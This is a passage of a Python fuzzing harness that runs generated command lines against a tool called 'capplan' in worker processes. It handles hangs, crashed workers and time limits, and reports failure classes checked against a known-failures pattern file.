        slots = [spawn() for _ in range(max(1, workers))]
        queue = list(reversed(tasks))
        done = 0
        while done < len(tasks):
            if time.perf_counter() - began > max_seconds:
                queue.clear()
                if all(slot["task"] is None for slot in slots):
                    break
            for i, slot in enumerate(slots):
                if slot["task"] is None and queue:
                    index, argv, columns = queue.pop()
                    slot["task"] = (index, argv)
                    slot["since"] = time.perf_counter()
                    slot["cpu"] = cpu_seconds(slot["proc"].pid)
                    slot["conn"].send((index, argv, os.path.join(tmp, "runs", str(index)),
                                       columns))
                if slot["task"] is None:
                    continue
                index, argv = slot["task"]
                outcome = None
                if slot["conn"].poll(0.01):
                    try:
                        _, outcome = slot["conn"].recv()
                    except EOFError:
                        outcome = Outcome(argv, None, "", "", "worker died")
                elif not slot["proc"].is_alive():
                    outcome = Outcome(argv, None, "", "",
                                      f"worker died (exit {slot['proc'].exitcode})")
                elif _hung(slot, timeout_s):
                    outcome = Outcome(argv, None, "", "", None, timeout_s)
                if outcome is None:
                    continue
                found = failures(outcome)
                if outcome.code is None and outcome.error is None:
                    cmd = " ".join(a for a in argv[:2] if not a.startswith("-"))
                    found.append(f"hang > {timeout_s:g} s in `{cmd}`")
                if outcome.error is not None and outcome.error.startswith("worker died"):
                    found = [f"traceback: {outcome.error}"]
                if outcome.code is None:  # hung or died: replace the worker
                    slot["proc"].kill()
                    slot["proc"].join()
                    shutil.rmtree(os.path.join(tmp, "runs", str(index)), ignore_errors=True)
                    slots[i] = spawn()
                else:
                    slot["task"] = None
                report.add(outcome, found, index)
                report.seconds = time.perf_counter() - began
                done += 1
                if progress:
                    progress(done, len(tasks), report)
    finally:
        for slot in slots:
            with contextlib.suppress(OSError, BrokenPipeError):
                slot["conn"].send(None)
            slot["proc"].join(timeout=5)
            if slot["proc"].is_alive():
                slot["proc"].kill()
    report.seconds = time.perf_counter() - began
    return report, tmp


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=10_000, help="command lines to run")
    parser.add_argument("--seed", type=int, default=0, help="seed of the lines")
    parser.add_argument("--start", type=int, default=0, help="index of the first line")
    parser.add_argument("--workers", type=int, default=min(2, os.cpu_count() or 1),
                        help="worker processes (default: min(2, CPUs))")
    parser.add_argument("--timeout", type=float, default=30.0, help="hang limit per line [s]")
    parser.add_argument("--memory-gb", type=float, default=4.0,
                        help="address-space cap per worker [GiB] (0: none)")
    parser.add_argument("--json", help="also write the report as JSON to this file")
    parser.add_argument("--max-seconds", type=float, default=math.inf,
                        help="start no new line after this many seconds (a partial run)")
    parser.add_argument("--show", type=int, metavar="INDEX",
                        help="print line INDEX of --seed (as a shell command) and exit")
    parser.add_argument("--known", help="file of failure-class patterns (one a line, glob "
                        "'*', '#' comments) that do not fail the run: what another change fixes")
    args = parser.parse_args(argv)
    if args.show is not None:
        tmp = tempfile.mkdtemp(prefix="capplan-fuzz-")
        fixtures = make_fixtures(Path(tmp) / "fixtures")
        _, line, columns = next(generate(1, args.seed, fixtures, args.show))
        print(f"COLUMNS={columns} " if columns else "", shlex.join(["capplan", *line]), sep="")
        print(f"(fixtures in {tmp})", file=sys.stderr)
        return 0

    def progress(done, total, report):
        if done % 250 == 0 or done == total:
            print(f"  {done}/{total}: {report.runs_failed} failed", file=sys.stderr, flush=True)
            if args.json:  # a partial report survives an interrupted long run
                Path(args.json).write_text(json.dumps(report.as_dict(""), indent=2) + "\n")

    report, tmp = fuzz(args.count, args.seed, args.workers, args.timeout, args.memory_gb,
                       args.start, progress, args.max_seconds)
    print(report.text(tmp))
    if args.json:
        Path(args.json).write_text(json.dumps(report.as_dict(tmp), indent=2) + "\n")
    shutil.rmtree(tmp, ignore_errors=True)
    known = read_known(args.known) if args.known else []
    new = [c for c in report.classes if not is_known(c, known)]
    if known:
        print(f"{len(report.classes) - len(new)} failure classes listed in {args.known} "
              f"(known), {len(new)} new" + (": " + "; ".join(new) if new else ""))
    return 1 if new else 0


def is_known(failure_class: str, patterns: list[str]) -> bool:
    """Whether a class starts with one of the glob ``patterns`` (``*`` any text)."""
    import fnmatch

    return any(fnmatch.fnmatchcase(failure_class, p + "*") for p in patterns)


def read_known(path: str) -> list[str]:
    """Class patterns of a known-failures file (text before '  #' on each line)."""
    prefixes = []
    for line in Path(path).read_text(encoding="utf-8").splitlines():
        text = line.split("  #", 1)[0].strip()
        if text and not text.startswith("#"):
            prefixes.append(text)
    return prefixes


if __name__ == "__main__":
    sys.exit(main())
